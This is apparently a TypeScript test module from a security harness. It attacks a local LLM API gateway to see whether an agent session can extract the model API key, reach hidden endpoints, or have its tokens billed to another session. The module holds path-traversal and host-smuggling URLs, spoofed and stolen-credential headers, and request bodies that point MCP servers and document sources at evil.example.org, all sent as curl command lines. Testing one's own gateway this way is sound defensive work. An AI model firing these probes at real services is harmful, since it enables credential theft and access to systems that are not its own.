import type { Attack } from '../frame/attack.ts'
import { need } from '../frame/attack.ts'
import { MODEL_KEY } from '../frame/target.ts'

const paths = [
  '/llm/v1/files', '/llm/v1/messages/batches', '/llm/v1/models', '/llm/v1/organizations/api_keys', '/llm/v1/organizations/me', '/llm/v1/messages/../files', '/llm/v1/messages%2F..%2Ffiles', '/llm//v1/messages', '/llm/v1/messages/', '/llm/v1/messages;x',
  '/llm/v1/complete', '/llm/journal', '/llm/../journal', '/llm/%2e%2e/journal', '/llm@evil.example.org/v1/messages', '/llm.evil.example.org/v1/messages', '/LLM/v1/messages', '/journal',
]
const bodies: Record<string, unknown>[] = [
  { tools: [{ type: 'web_search_20250305', name: 'web_search' }] }, { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }, { tools: [{ type: 'code_execution_20250825', name: 'c' }] }, { mcp_servers: [{ type: 'url', url: 'http://evil.example.org', name: 'x' }] },
  { container: 'c' }, { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'http://evil.example.org/x' } }] }] }, { messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'url', url: 'http://evil.example.org/x' } }] }] },
  { messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'file_of_somebody' } }] }] }, { messages: [{ role: 'user', content: [{ type: 'container_upload', file_id: 'file_of_somebody' }] }] },
]
const headers = ['x-forwarded-host: evil.example.org', 'host: evil.example.org', 'x-original-url: /journal', 'x-session: designer', 'anthropic-organization: other', 'x-stainless-base-url: http://evil.example.org', 'x-api-key: stolen', 'authorization: Bearer stolen']

const attack: Attack = {
  tries: "makes the gateway show or lend the key: other endpoints, steered paths and hosts, the provider's own tools, another session's name; and asks the endpoint past it",
  success: 'another endpoint answered, the key came back, or tokens were counted for another session',
  run: async (t) => {
    const evil = await t.agent()
    const model = `claude-canary-${Date.now()}`
    const line = (args: string): string => `curl -sS -i --path-as-is --max-time 15 ${args} 2>&1 | head -c 3000; printf '\\n=====\\n'`
    const base = { model, max_tokens: 5, messages: [{ role: 'user', content: 'hello' }] }
    const post = (path: string, body: unknown, more = ''): string => line(`-X POST 'http://127.0.0.1:7700${path}' -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' ${more} --data '${JSON.stringify(body)}'`)
    const script = [
      ...paths.map((p) => post(p, base)), ...paths.map((p) => line(`'http://127.0.0.1:7700${p}'`)), ...bodies.map((b) => post('/llm/v1/messages', { ...base, ...b })),
      line('-x http://127.0.0.1:7700 http://model:8080/journal'), line('-x http://127.0.0.1:7700 -p http://model:8080/journal'),
    ]
    const answers = async (lines: string[]): Promise<string[]> => (await evil.sh(lines.join('\n'), { deadlineMs: 300_000 })).split('\n=====').map((a) => a.trim()).filter(Boolean)
    const [seen, good] = [await answers(script), await answers(headers.map((h) => post('/llm/v1/messages', base, `-H '${h}'`)))]
    need(good.some((g) => g.startsWith('HTTP/1.1 200')), `no request got through as it should: ${good[0]?.slice(0, 400) ?? ''}`)
    const leak = [...seen, ...good].find((s) => s.includes(MODEL_KEY))
    if (leak !== undefined) return { through: `the key came back: ${leak.slice(0, 300)}` }
    const open = seen.findIndex((s) => /^HTTP\/1\.1 (200|101)/.test(s))
    if (open >= 0) return { through: `${script[open]?.slice(0, 160) ?? ''}: ${seen[open]?.slice(0, 200) ?? ''}` }
    const billed = await t.sql(`select string_agg(distinct session_id, ', ') from usage where model = '${model}'`)
    if (billed !== evil.session) return { through: `its tokens were counted for: ${billed || 'nobody'}` }
    return { held: `${seen.length} requests, answers ${[...new Set(seen.map((s) => s.split('\r\n')[0]))].sort().join(' | ')}; what it asked with other names was counted for itself` }
  },
}
export default attack
